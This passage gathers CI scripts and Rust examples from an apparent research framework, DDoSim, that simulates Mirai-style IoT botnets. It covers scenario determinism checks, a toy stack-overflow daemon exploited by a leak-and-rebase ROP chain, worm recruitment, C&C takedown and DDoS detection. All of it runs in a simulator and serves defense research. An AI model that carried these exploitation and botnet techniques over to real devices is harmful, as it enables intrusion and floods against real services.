    trace_a=$work/det-a.json
    trace_b=$work/det-b.json
    plan=$work/det-plan.json

    # Identical seeds must produce byte-identical flight-recorder traces,
    # and `trace diff` must agree.
    run_traced "$trace_a"
    run_traced "$trace_b"
    $DDOSIM trace diff "$trace_a" "$trace_b"

    # The same determinism must hold across a multi-hop routed topology,
    # which exercises the forwarding fast path (route cache + sorted LPM
    # tables) on every forwarded packet.
    run_traced "$trace_a" --topology tiered:3:10000000
    run_traced "$trace_b" --topology tiered:3:10000000
    $DDOSIM trace diff "$trace_a" "$trace_b"

    # Fault-plan smoke: a C&C outage mid-run must land in the flight
    # recorder (start and end), and the bots must re-register with the
    # restarted C&C (strictly more cnc_register events than the 6 initial
    # recruitments).
    cat > "$plan" <<'PLAN'
{
  "schema": "ddosim.faults.plan/1",
  "seed": 0,
  "faults": [
    { "at_secs": 40.0, "kind": "cnc_outage", "duration_secs": 20.0 }
  ]
}
PLAN
    run_faulted() {
        out=$1; shift
        $DDOSIM \
            --devs 6 --attack-at 20 --duration 15 --sim-time 110 --seed 7 \
            --faults "$plan" --record "$out" "$@" > /dev/null
    }
    run_faulted "$trace_a"
    # The compact recorder document is one line, so count matches, not lines.
    [ "$(grep -o '"cat":"fault"' "$trace_a" | wc -l)" -ge 2 ]
    [ "$(grep -o '"cat":"cnc_register"' "$trace_a" | wc -l)" -gt 6 ]

    # Determinism holds under faults: same seed + same plan -> identical trace.
    run_faulted "$trace_b"
    $DDOSIM trace diff "$trace_a" "$trace_b"

    # A zero-fault plan is a strict no-op: its trace matches a run that
    # never passed --faults at all.
    printf '{ "schema": "ddosim.faults.plan/1", "faults": [] }\n' > "$plan"
    run_traced "$trace_a"
    run_traced "$trace_b" --faults "$plan"
    $DDOSIM trace diff "$trace_a" "$trace_b"

    # Sweep smoke: the streamed runner must emit the exact rows the batch
    # runner reports — same deterministic row bytes, only the delivery
    # order may differ — and a repeated sweep must reproduce itself.
    batch=$work/sweep-batch.ndjson
    stream=$work/sweep-stream.ndjson
    run_sweep() {
        $DDOSIM --devs 6 --attack-at 20 --duration 15 --sim-time 45 \
            --seed 7 --sweep-seeds 6 "$@"
    }
    run_sweep --json > "$batch"
    run_sweep --sweep-stream > "$stream"
    [ "$(wc -l < "$batch")" -eq 6 ]
    sort "$stream" | diff "$batch" -
    run_sweep --sweep-stream | sort | diff "$batch" -

    # Scenario smoke: every checked-in adversary-vs-defense plan
    # (ddosim.scenario/1) runs deterministically — same seed, byte-identical
    # trace — with the JSON result captured for the metric assertions below.
    sa=$work/scn-a.json
    sb=$work/scn-b.json
    for p in plans/*.scenario.json; do
        name=$(basename "$p" .scenario.json)
        $DDOSIM --scenario "$p" --json --record "$sa" > "$work/scn-$name.result" 2> /dev/null
        $DDOSIM --scenario "$p" --record "$sb" > /dev/null 2>&1
        $DDOSIM trace diff "$sa" "$sb"
        mv "$sa" "$work/scn-$name.trace"
    done

    # A defense-free scenario is a strict no-op: the baseline plan's trace
    # matches the same world built from plain command-line flags.
    run_plain_baseline() {
        $DDOSIM --devs 8 --seed 42 --sim-time 120 --attack-at 60 \
            --vector udpplain --duration 40 --record "$sb" > /dev/null
    }
    run_plain_baseline
    $DDOSIM trace diff "$work/scn-baseline.trace" "$sb"

    # Each defense moves its headline metric against the no-defense
    # baseline; each attack vector lands.
    scn_field() { sed -n 's/^  "'"$2"'": \([0-9][0-9.]*\).*/\1/p' "$work/scn-$1.result" | head -1; }
    flt_lt() { awk "BEGIN{exit !($1 < $2)}"; }
    base_flood=$(scn_field baseline flood_packets_received)
    base_rate=$(scn_field baseline avg_received_data_rate_kbps)
    [ "$base_flood" -gt 1000 ]
    # Rate limiting throttles the flood; egress filtering all but kills it.
    [ "$(scn_field rate_limit flood_packets_received)" -lt $((base_flood / 2)) ]
    [ "$(scn_field egress_filter flood_packets_received)" -lt $((base_flood / 4)) ]
    # A patch rollout finished before the attack leaves no bots to command.
    [ "$(scn_field patch_rollout bots_at_command)" -eq 0 ]
    [ "$(scn_field layered_defense bots_at_command)" -eq 0 ]
    # Seizing the only C&C orphans the botnet; with a backup in the
    # fallback chain every bot re-homes to it instead.
    [ "$(scn_field cnc_takedown_spof flood_packets_received)" -eq 0 ]
    [ "$(grep -o 'rotating to fallback' "$work/scn-cnc_takedown.trace" | wc -l)" -ge 8 ]
    # Rival malware that lands first locks the primary botnet out.
    [ "$(scn_field rivalry bots_at_command)" -lt "$(scn_field baseline bots_at_command)" ]
    # Honeypots trap at least one scanner under worm recruitment.
    [ "$(grep -o 'honeypot trapped' "$work/scn-honeypot.trace" | wc -l)" -ge 1 ]
    # DNS amplification beats the direct flood's data rate; the HTTP GET
    # flood arrives as TCP stream data.
    flt_lt "$base_rate" "$(scn_field dns_amplification avg_received_data_rate_kbps)"
    [ "$(scn_field http_flood flood_packets_received)" -gt 0 ]

    # Defense-frontier gate (ROADMAP item 3): regenerating the committed
    # frontier table from its checked-in sweep plan must reproduce it
    # byte for byte (CRN-paired grid, deterministic per cell).
    cp results/frontier.md "$work/frontier.committed.md"
    $FRONTIER > /dev/null
    cmp results/frontier.md "$work/frontier.committed.md"
}

stage_checkpoint() {
    full=$work/ck-full.json
    cp_file=$work/ck.json
    resumed=$work/ck-resumed.json
    suffix=$work/ck-suffix.json
    plan=$work/ck-plan.json

    # Resume == straight-through: a full run records its trace and
    # snapshots mid-attack; resuming from the snapshot must reproduce the
    # trace from the snapshot time on, byte for byte.
    run_traced "$full" --checkpoint-at 28 --checkpoint-out "$cp_file"
    $DDOSIM --resume "$cp_file" --record "$resumed" > /dev/null
    $DDOSIM trace suffix "$full" "$cp_file" > "$suffix"
    $DDOSIM trace diff "$suffix" "$resumed"

    # The same guarantee under fault injection: pending plan events beyond
    # the snapshot must fire identically in the resumed run.
    cat > "$plan" <<'PLAN'
{
  "schema": "ddosim.faults.plan/1",
  "seed": 3,
  "faults": [
    { "at_secs": 15.0, "kind": "link_down", "node": "dev-2" },
    { "at_secs": 25.0, "kind": "link_up", "node": "dev-2" },
    { "at_secs": 30.0, "kind": "node_crash", "node": "dev-4" },
    { "at_secs": 40.0, "kind": "node_restore", "node": "dev-4" }
  ]
}
PLAN
    run_traced "$full" --faults "$plan" --checkpoint-at 28 --checkpoint-out "$cp_file"
    $DDOSIM --resume "$cp_file" --record "$resumed" > /dev/null
    $DDOSIM trace suffix "$full" "$cp_file" > "$suffix"
    $DDOSIM trace diff "$suffix" "$resumed"

    # Fork smoke: a scenario tree forked mid-attack runs its branches on
    # in-memory deep clones of the live world (no replay). The identity
    # branch (fork seed 0, no divergence) must reproduce the
    # straight-through run's full trace byte for byte; the reseeded
    # sibling branch in the same sweep must diverge.
    splan=$work/suffix-plan.json
    forked=$work/fork.json
    cat > "$splan" <<'PLAN'
{
  "schema": "ddosim.suffix/1",
  "fork_at_nanos": 28000000000,
  "suffixes": [
    { "name": "baseline", "fork_seed": 0,
      "faults": { "schema": "ddosim.faults.plan/1", "faults": [] },
      "admin_lines": [], "horizon_nanos": null },
    { "name": "reseeded", "fork_seed": 99,
      "faults": { "schema": "ddosim.faults.plan/1", "faults": [] },
      "admin_lines": [], "horizon_nanos": null }
  ],
  "config": null
}
PLAN
    run_traced "$full"
    run_traced "$forked" --suffixes "$splan"
    $DDOSIM trace diff "$full" "$work/fork.baseline.json"
    ! $DDOSIM trace diff "$full" "$work/fork.reseeded.json" > /dev/null
}

stage_serve() {
    # Serving must not perturb determinism: a trace streamed out of the
    # resident server, reassembled by the client, must equal the same
    # seed+plan run offline with --record — byte for byte.
    cargo build --release --offline -p ddosim --bin ddosim

    serve_log=$work/serve.log
    streamed=$work/serve-streamed.json
    offline=$work/serve-offline.json
    $DDOSIM serve --listen 127.0.0.1:0 --idle-timeout 120 > "$serve_log" 2>&1 &
    serve_pid=$!
    for _ in $(seq 1 300); do
        grep -q "^listening on " "$serve_log" 2> /dev/null && break
        sleep 0.1
    done
    addr=$(sed -n 's/^listening on //p' "$serve_log" | head -1)
    [ -n "$addr" ]

    # Byte-identity for a plain plan and a defended (layered) one: the
    # semantic diff and the raw bytes must both agree.
    for p in plans/baseline.scenario.json plans/layered_defense.scenario.json; do
        $DDOSIM submit "$addr" --scenario "$p" --record "$streamed" > /dev/null 2> /dev/null
        $DDOSIM --scenario "$p" --record "$offline" > /dev/null 2> /dev/null
        $DDOSIM trace diff "$streamed" "$offline"
        cmp "$streamed" "$offline"
    done

    # A malformed submission exits non-zero — and costs only an error
    # frame, not the server: the next submission still completes.
    printf '{ "schema": "ddosim.scenario/1" }\n' > "$work/bad-plan.json"
    ! $DDOSIM submit "$addr" --scenario "$work/bad-plan.json" > /dev/null 2> /dev/null
    $DDOSIM submit "$addr" --scenario plans/baseline.scenario.json > /dev/null 2> /dev/null

    # A protocol shutdown drains the server to a clean exit.
    $DDOSIM submit "$addr" --shutdown 2> /dev/null
    wait "$serve_pid"
}

ALL_STAGES="build test perf determinism checkpoint serve"
summary=""

run_stage() {
    stage=$1
    case " $ALL_STAGES " in
        *" $stage "*) ;;
        *)
            echo "error: unknown stage '$stage' (stages: $ALL_STAGES)" >&2
            exit 2
            ;;
    esac
    echo "==> $stage"
    stage_start=$(date +%s)
    "stage_$stage"
    stage_secs=$(($(date +%s) - stage_start))
    summary="$summary$(printf '  %-12s %4ds  ok' "$stage" "$stage_secs")
"
}

if [ $# -eq 0 ]; then
    for stage in $ALL_STAGES; do
        run_stage "$stage"
    done
else
    for stage in "$@"; do
        run_stage "$stage"
    done
fi

echo "==> summary"
printf '%s' "$summary"
if [ -n "${CI_ARTIFACT_DIR:-}" ]; then
    mkdir -p "$CI_ARTIFACT_DIR"
    printf '%s' "$summary" > "$CI_ARTIFACT_DIR/stage-timings.txt"
fi
