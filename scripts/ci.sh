#!/usr/bin/env sh
# Tier-1 gate: build (including examples), full test suite, a smoke run of
# the performance snapshot gated against the committed baseline, and a
# telemetry determinism self-check (same seed twice -> `trace diff` finds
# zero divergence).
#
# The workspace resolves entirely from in-tree path dependencies (see
# "Offline builds" in README.md), so this runs without network access.
set -eu

cd "$(dirname "$0")/.."

cargo build --release --offline
cargo build --examples --offline
cargo test -q --offline

# Performance regression gate: a fresh smoke snapshot must stay within 25%
# of the committed baseline on every throughput gauge.
fresh_snap=$(mktemp)
trap 'rm -f "$fresh_snap"' EXIT
cargo run --release --offline -p ddosim-bench --bin perfsnap -- --smoke --out "$fresh_snap"
cargo run --release --offline -p ddosim-bench --bin perfsnap -- \
    --compare-only results/BENCH_netsim.json "$fresh_snap"

# Telemetry determinism self-check: identical seeds must produce
# byte-identical flight-recorder traces, and `trace diff` must agree.
trace_a=$(mktemp) trace_b=$(mktemp)
trap 'rm -f "$fresh_snap" "$trace_a" "$trace_b"' EXIT
run_traced() {
    cargo run --release --offline -p ddosim --bin ddosim -- \
        --devs 6 --attack-at 20 --duration 15 --sim-time 45 --seed 7 \
        --record "$1" > /dev/null
}
run_traced "$trace_a"
run_traced "$trace_b"
cargo run --release --offline -p ddosim --bin ddosim -- trace diff "$trace_a" "$trace_b"
