#!/usr/bin/env sh
# Tier-1 gate: build, full test suite, and a smoke run of the performance
# snapshot (which also regenerates results/BENCH_netsim.json and fails
# loudly if the bench harness rots).
#
# The workspace resolves entirely from in-tree path dependencies (see
# "Offline builds" in README.md), so this runs without network access.
set -eu

cd "$(dirname "$0")/.."

cargo build --release --offline
cargo test -q --offline
cargo run --release --offline -p ddosim-bench --bin perfsnap -- --smoke
