//! Epidemic-model use case (§V-A2): fit an SI ODE model's contact rate to
//! DDoSim's measured botnet growth curve and compare the trajectories.
//!
//! ```sh
//! cargo run --release --example epidemic_fit
//! ```

use analysis::{fit_si_beta, infected_curve, observed_curve, SirParams, SirState};
use ddosim::SimulationBuilder;
use std::time::Duration;

fn main() -> Result<(), String> {
    let devs = 50;
    let result = SimulationBuilder::new()
        .devs(devs)
        .attack_at(Duration::from_secs(90))
        .sim_time(Duration::from_secs(200))
        .seed(77)
        .run()?;
    println!(
        "measured propagation: {}/{} devices recruited between {:.1}s and {:.1}s",
        result.infected,
        devs,
        result.infection_times_secs.first().copied().unwrap_or(0.0),
        result.infection_times_secs.last().copied().unwrap_or(0.0)
    );

    let dt = 1.0;
    let observed = observed_curve(&result.infection_times_secs, dt, 45.0);
    let (beta, rmse) = fit_si_beta(&observed, devs as f64, 1.0, dt);
    println!("fitted SI model: beta = {beta:.3}, RMSE = {rmse:.2} devices");

    let model = infected_curve(
        SirState {
            s: devs as f64 - 1.0,
            i: 1.0,
            r: 0.0,
        },
        SirParams { beta, gamma: 0.0 },
        dt,
        observed.len() - 1,
    );
    println!("\n  t(s)  measured  SI-model");
    for (k, (o, m)) in observed.iter().zip(&model).enumerate() {
        if k % 3 == 0 {
            let bar = "#".repeat((*o as usize).min(60));
            println!("  {k:4}  {o:8.0}  {m:8.1}  {bar}");
        }
    }
    println!(
        "\nDDoSim lets researchers check such models against realistic\n\
         propagation — infections here need a leak round-trip, a download,\n\
         and a C&C registration, which no closed-form model captures."
    );
    Ok(())
}
