//! Bring your own vulnerable binary — the framework's headline capability:
//! "DDoSim enables researchers to create simulated environments comprising
//! potential bot devices running **user-specified binaries**".
//!
//! This example defines a brand-new IoT daemon (`campd`, a toy camera
//! control service with a stack overflow in its command parser), a matching
//! exploit delivery app, and wires both into a scratch network — all
//! through the public API, no framework changes.
//!
//! ```sh
//! cargo run --release --example custom_binary
//! ```

use attacker::{ExploitForge, ExploitStrategy, FileServer};
use firmware::{CommandSet, ContainerHandle, ServiceCore};
use malware::CncServer;
use netsim::topology::StarTopology;
use netsim::{Application, Ctx, LinkConfig, Packet, Payload, SimTime, Simulator};
use rand::rngs::SmallRng;
use rand::SeedableRng;
use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;
use tinyvm::{Arch, BinaryImage, GadgetOp, LeakSpec, Protections, VulnSpec};

/// Step 1 — describe the binary: a 256-byte command buffer, gadgets found
/// by "analysis", and a leak primitive (an error reply that echoes a code
/// address).
fn campd_image() -> BinaryImage {
    let mut gadgets = BTreeMap::new();
    gadgets.insert(0x0840, GadgetOp::PopArg0);
    gadgets.insert(0x1f10, GadgetOp::SyscallExec);
    BinaryImage {
        name: "campd".to_owned(),
        arch: Arch::Arm7, // a camera SoC
        text_base: 0x0040_0000,
        text_len: 0x3_0000,
        gadgets,
        vuln: VulnSpec {
            buffer_len: 256,
            gap_to_ra: 12,
            max_input: 768,
        },
        leak: Some(LeakSpec {
            leaked_symbol_addr: 0x0040_0840,
        }),
        size_bytes: 420_000,
    }
}

/// Step 2 — the daemon: listens on UDP 8554 for camera control commands
/// and parses them through the vulnerable copy path.
struct CampDaemon {
    core: ServiceCore,
}

const CAMP_PORT: u16 = 8554;
const TIMER_RESTART: u64 = 1;
/// Private "command" that triggers the leak primitive (an overlong session
/// token echoes a pointer in the error reply).
struct LeakProbe;
/// The leak reply.
struct LeakReply(u64);

impl Application for CampDaemon {
    fn name(&self) -> &str {
        "campd"
    }
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.core
            .container()
            .register_proc("campd", Some(ctx.app_id()), vec![CAMP_PORT]);
        ctx.udp_bind(CAMP_PORT).expect("camera port is free");
    }
    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        if token == TIMER_RESTART {
            self.core.restart(ctx);
        }
    }
    fn on_packet(&mut self, ctx: &mut Ctx<'_>, packet: &Packet) {
        if packet.payload.get::<LeakProbe>().is_some() {
            if let Some(addr) = self.core.leak() {
                let _ = ctx.udp_send(CAMP_PORT, packet.src, Payload::new(LeakReply(addr)), 32);
            }
            return;
        }
        if let Some(bytes) = packet.payload.get::<Vec<u8>>() {
            self.core.deliver(ctx, bytes, TIMER_RESTART);
        }
    }
}

/// Step 3 — the exploit delivery app on the attacker.
struct CampExploiter {
    target: SocketAddr,
    forge: ExploitForge,
    port: u16,
}

impl Application for CampExploiter {
    fn name(&self) -> &str {
        "camp-exploiter"
    }
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.port = ctx.udp_bind_ephemeral();
        // Stage 1: trigger the leak.
        ctx.udp_send(self.port, self.target, Payload::new(LeakProbe), 40)
            .expect("addressable");
    }
    fn on_packet(&mut self, ctx: &mut Ctx<'_>, packet: &Packet) {
        if let Some(LeakReply(addr)) = packet.payload.get::<LeakReply>() {
            // Stage 2: rebase and fire.
            let payload = self
                .forge
                .rebased_payload(*addr)
                .expect("campd image has the required gadgets");
            let bytes = payload.len() as u32;
            ctx.udp_send(self.port, self.target, Payload::new(payload), bytes)
                .expect("addressable");
        }
    }
}

fn main() {
    let mut sim = Simulator::new(99);
    let mut star = StarTopology::new(&mut sim, "net");

    // The attacker hosts the usual Mirai infrastructure.
    let attacker = sim.add_node("attacker");
    let am = star.attach(&mut sim, attacker, LinkConfig::default());
    sim.install_app(attacker, Box::new(CncServer::new()));
    let cnc = SocketAddr::new(am.addr_v4, protocols::CNC_PORT);
    sim.install_app(
        attacker,
        Box::new(FileServer::new(vec![
            malware::infection_script(am.addr_v4),
            malware::mirai_binary_file(Arch::Arm7, cnc, 600_000, Duration::from_secs(2)),
        ])),
    );

    // The device runs our brand-new daemon under full W^X+ASLR.
    let image = Arc::new(campd_image());
    let camera = sim.add_node("smart-camera");
    let cm = star.attach(&mut sim, camera, LinkConfig::new(400_000, Duration::from_millis(10)));
    let container = ContainerHandle::new(
        "smart-camera",
        Arch::Arm7,
        camera,
        CommandSet::standard(),
        6_000_000 + image.size_bytes,
    );
    let mut rng = SmallRng::seed_from_u64(1);
    let core = ServiceCore::new(
        container.clone(),
        Arc::clone(&image),
        Protections::FULL,
        "campd",
        &mut rng,
    );
    sim.install_app(camera, Box::new(CampDaemon { core }));

    // And the custom exploiter.
    let forge = ExploitForge::new(
        Arc::clone(&image),
        ExploitStrategy::LeakRebase,
        malware::stage1_command(am.addr_v4),
    );
    sim.install_app(
        attacker,
        Box::new(CampExploiter {
            target: SocketAddr::new(cm.addr_v4, CAMP_PORT),
            forge,
            port: 0,
        }),
    );

    sim.run_until(SimTime::from_secs(30));

    println!("custom daemon: campd (ARM camera service), W^X+ASLR enabled");
    println!(
        "device recruited: {} (infected at {:?})",
        container.is_infected(),
        container.state().infected_at.map(|t| t.to_string())
    );
    println!("audit trail:");
    for e in container.state().events.iter().take(8) {
        println!("  {e:?}");
    }
    assert!(container.is_infected(), "the custom exploit chain must work");
    println!("\nnew binary + new exploit, zero framework changes — the paper's extensibility claim.");
}
