//! Worm-mode propagation: the attacker compromises a single seed device;
//! every recruited bot scans for new victims itself ("Botnet Malware can
//! simultaneously scan the network for new potential victims", §II-A).
//! The resulting growth curve is the exponential the epidemic-model use
//! case (§V-A2) is built to study.
//!
//! ```sh
//! cargo run --release --example worm_propagation
//! ```

use analysis::{fit_si_beta, observed_curve};
use ddosim::{AttackSpec, Recruitment, SimulationBuilder};
use std::time::Duration;

fn main() -> Result<(), String> {
    let devs = 40;
    let mut instance = SimulationBuilder::new()
        .devs(devs)
        .recruitment(Recruitment::SelfPropagating {
            default_credential_fraction: 1.0,
            seeds: 1,
        })
        .attack(AttackSpec::udp_plain(Duration::from_secs(30)))
        .attack_at(Duration::from_secs(90))
        .sim_time(Duration::from_secs(140))
        .seed(13)
        .build()?;

    println!("one seed device; every bot scans the subnet:");
    for t in [4u64, 6, 8, 10, 14, 20, 30] {
        instance.run_until(Duration::from_secs(t));
        let n = instance.infected_count();
        println!("  t={t:3}s  {n:3} bots  {}", "#".repeat(n));
    }

    let result = instance.run_to_completion();
    let observed = observed_curve(&result.infection_times_secs, 1.0, 30.0);
    let (beta, rmse) = fit_si_beta(&observed, devs as f64, 1.0, 1.0);
    println!(
        "\nworm growth fits SI with beta = {beta:.2} (RMSE {rmse:.1} devices) — \
         compare the attacker-driven mode, where all devices are hit in parallel."
    );
    println!(
        "attack from the worm-built botnet: {:.0} kbps at TServer",
        result.avg_received_data_rate_kbps
    );
    Ok(())
}
