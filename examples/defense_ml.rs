//! ML-defense use case (§V-A): generate mixed attack + benign traffic with
//! DDoSim, extract flow features at TServer, and train a DDoS detector.
//!
//! ```sh
//! cargo run --release --example defense_ml
//! ```

use analysis::{
    label_samples, train_test_split, BenignClient, FeatureExtractor, LogisticRegression, Metrics,
    TrainConfig,
};
use ddosim::scenario::ScenarioPlan;
use netsim::{LinkConfig, TraceKind, TraceRecord};
use std::cell::RefCell;
use std::collections::HashSet;
use std::net::{IpAddr, SocketAddr};
use std::rc::Rc;
use std::time::Duration;

fn main() -> Result<(), String> {
    // The world (20 Devs, UDP-PLAIN flood at t=40s) lives in a checked-in
    // scenario plan; this example layers benign traffic and a packet tap
    // on top of it.
    let text = std::fs::read_to_string("plans/defense_ml.scenario.json")
        .map_err(|e| format!("reading plans/defense_ml.scenario.json: {e}"))?;
    let plan = ScenarioPlan::parse(&text)?;
    let mut instance = plan.build()?;

    let (tserver_node, tserver_v4) = instance.tserver();
    let attack_sources: HashSet<IpAddr> = instance.devs().iter().map(|d| d.addr_v4).collect();

    // Benign smart-home clients chatting with the same server.
    for i in 0..10 {
        let member = instance.attach_extra_node(
            &format!("benign-{i}"),
            LinkConfig::new(2_000_000, Duration::from_millis(15)),
        );
        let node = member.node;
        instance.sim_mut().install_app(
            node,
            Box::new(BenignClient::new(
                SocketAddr::new(tserver_v4, 80),
                Duration::from_millis(300),
            )),
        );
    }

    // Tap TServer's inbound traffic.
    let records: Rc<RefCell<Vec<TraceRecord>>> = Rc::new(RefCell::new(Vec::new()));
    let tap = Rc::clone(&records);
    instance.sim_mut().set_trace(Box::new(move |r| {
        if r.node == tserver_node && r.kind == TraceKind::Delivered {
            tap.borrow_mut().push(r.clone());
        }
    }));

    let result = instance.run_to_completion();
    println!(
        "traffic generated: {} delivered packets at TServer ({} bots flooding)",
        records.borrow().len(),
        result.infected
    );

    let mut fx = FeatureExtractor::new(Duration::from_secs(2));
    for r in records.borrow().iter() {
        fx.push(r);
    }
    let samples = label_samples(fx.finish(), &attack_sources);
    let attack_flows = samples.iter().filter(|s| s.label).count();
    println!(
        "dataset: {} flow windows ({attack_flows} attack / {} benign)",
        samples.len(),
        samples.len() - attack_flows
    );

    let (train, test) = train_test_split(samples, 0.3, 5);
    let model = LogisticRegression::train(&train, TrainConfig::default());
    let m = Metrics::evaluate(&model, &test);
    println!(
        "held-out detection: accuracy {:.1}%  precision {:.1}%  recall {:.1}%  F1 {:.3}",
        m.accuracy() * 100.0,
        m.precision() * 100.0,
        m.recall() * 100.0,
        m.f1()
    );
    Ok(())
}
