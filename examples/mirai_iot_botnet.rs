//! The paper's full experiment, narrated phase by phase: watch the
//! memory-error infection spread, inspect a compromised device's audit
//! trail, then measure the commanded flood.
//!
//! ```sh
//! cargo run --release --example mirai_iot_botnet
//! ```

use ddosim::{AttackSpec, SimulationBuilder};
use firmware::ContainerEvent;
use std::time::Duration;

fn main() -> Result<(), String> {
    let devs = 40;
    let mut instance = SimulationBuilder::new()
        .devs(devs)
        .attack(AttackSpec::udp_plain(Duration::from_secs(100)))
        .attack_at(Duration::from_secs(60))
        .sim_time(Duration::from_secs(250))
        .seed(7)
        .build()?;

    println!("== Phase 1: initialization & infection ==");
    for t in [5u64, 10, 20, 40, 60] {
        instance.run_until(Duration::from_secs(t));
        println!(
            "t={t:3}s  recruited {:2}/{devs}  ({} bots connected to C&C)",
            instance.infected_count(),
            instance.connected_bots()
        );
    }

    // Inspect one compromised device's audit trail — the "examine the
    // backdoor vulnerability" capability the paper advertises.
    println!("\n== A compromised Dev's audit trail ==");
    let dev = instance.devs()[0].clone();
    println!(
        "device: dev-0 at {} daemon={} protections={} uplink={} kbps",
        dev.addr_v4, dev.daemon, dev.protections, dev.access_rate_kbps
    );
    for event in dev.container.state().events.iter().take(12) {
        match event {
            ContainerEvent::CommandRun { time, command } => {
                println!("  [{time}] $ {command}");
            }
            ContainerEvent::Downloaded { time, path, bytes } => {
                println!("  [{time}] downloaded {path} ({bytes} bytes)");
            }
            ContainerEvent::Executed { time, path } => {
                println!("  [{time}] exec {path}");
            }
            ContainerEvent::DaemonCrashed { time, daemon } => {
                println!("  [{time}] {daemon} crashed (failed exploit)");
            }
            ContainerEvent::ExploitBlocked { time, daemon } => {
                println!("  [{time}] exploit blocked in {daemon}");
            }
            ContainerEvent::ProcessKilled { time, name } => {
                println!("  [{time}] bot killed process '{name}'");
            }
            ContainerEvent::CommandMissing { time, command } => {
                println!("  [{time}] {command}: not found");
            }
            ContainerEvent::Rebooted { time } => {
                println!("  [{time}] device rebooted (volatile state lost)");
            }
        }
    }
    println!(
        "  process table now: {:?}",
        dev.container
            .state()
            .procs
            .iter()
            .map(|p| p.name.clone())
            .collect::<Vec<_>>()
    );

    println!("\n== Phase 2: the UDP-PLAIN flood (100 s) ==");
    let result = instance.run_to_completion();
    println!(
        "average received data rate at TServer: {:.1} kbps",
        result.avg_received_data_rate_kbps
    );
    println!(
        "per-second peak: {:.1} kbits/s",
        result
            .per_second_kbits
            .iter()
            .copied()
            .fold(0.0f64, f64::max)
    );
    println!(
        "infection rate {:.0}% — the paper's R2 answer",
        result.infection_rate * 100.0
    );
    Ok(())
}
