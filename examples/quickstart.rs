//! Quickstart: simulate a 25-device memory-error IoT botnet and measure
//! its UDP-PLAIN flood against TServer.
//!
//! ```sh
//! cargo run --release --example quickstart
//! ```

use ddosim::{AttackSpec, SimulationBuilder};
use std::time::Duration;

fn main() -> Result<(), String> {
    // The paper's defaults: Devs randomly run Connman- or Dnsmasq-like
    // daemons with random W^X/ASLR subsets, on 100-500 kbps access links;
    // the attacker recruits them via ROP exploits and orders Mirai's
    // UDP-PLAIN flood.
    let result = SimulationBuilder::new()
        .devs(25)
        .attack(AttackSpec::udp_plain(Duration::from_secs(100)))
        .attack_at(Duration::from_secs(60))
        .sim_time(Duration::from_secs(300))
        .seed(42)
        .run()?;

    println!("== DDoSim quickstart ==");
    println!(
        "recruited           : {}/{} Devs ({:.0}% infection rate)",
        result.infected,
        result.devs,
        result.infection_rate * 100.0
    );
    println!(
        "bots at command     : {} connected to the C&C",
        result.bots_at_command
    );
    println!(
        "attack magnitude    : {:.1} kbps average received data rate (Eq. 2)",
        result.avg_received_data_rate_kbps
    );
    println!(
        "flood at TServer    : {} packets, {:.2} MB",
        result.flood_packets_received,
        result.flood_bytes_received as f64 / 1e6
    );
    println!(
        "host footprint      : {:.2} GB pre-attack, {:.2} GB during attack, {} wall-clock",
        result.pre_attack_mem_gb,
        result.attack_mem_gb,
        result.attack_time_m_ss()
    );
    Ok(())
}
