//! Churn study: how dynamic IoT network conditions (Fan et al.'s model)
//! affect attack severity — the paper's R3 answer in miniature.
//!
//! ```sh
//! cargo run --release --example churn_study
//! ```

use churn::ChurnMode;
use ddosim::report::{fmt_f, Table};
use ddosim::SimulationBuilder;
use std::time::Duration;

fn main() -> Result<(), String> {
    let devs = 60;
    let mut table = Table::new(
        "Attack severity under churn (60 Devs, 100 s UDP-PLAIN)",
        &["churn", "avg kbps", "recruited", "departures", "rejoins"],
    );
    for mode in [ChurnMode::None, ChurnMode::Static, ChurnMode::Dynamic] {
        // Average three seeds per mode, as the experiments do.
        let mut avg = 0.0;
        let mut infected = 0.0;
        let mut departures = 0u64;
        let mut rejoins = 0u64;
        let reps = 3u64;
        for rep in 0..reps {
            let result = SimulationBuilder::new()
                .devs(devs)
                .churn(mode)
                .sim_time(Duration::from_secs(200))
                .seed(100 + rep)
                .run()?;
            avg += result.avg_received_data_rate_kbps / reps as f64;
            infected += result.infected as f64 / reps as f64;
            if let Some(c) = result.churn_summary {
                departures += c.departures;
                rejoins += c.rejoins;
            }
        }
        table.push_row(vec![
            mode.to_string(),
            fmt_f(avg, 1),
            fmt_f(infected, 1),
            departures.to_string(),
            rejoins.to_string(),
        ]);
    }
    println!("{}", table.render());
    println!(
        "R3: churn reduces attack severity; dynamic churn (intermittent departures,\n\
         rejoining bots that missed the attack command) reduces it the most."
    );
    Ok(())
}
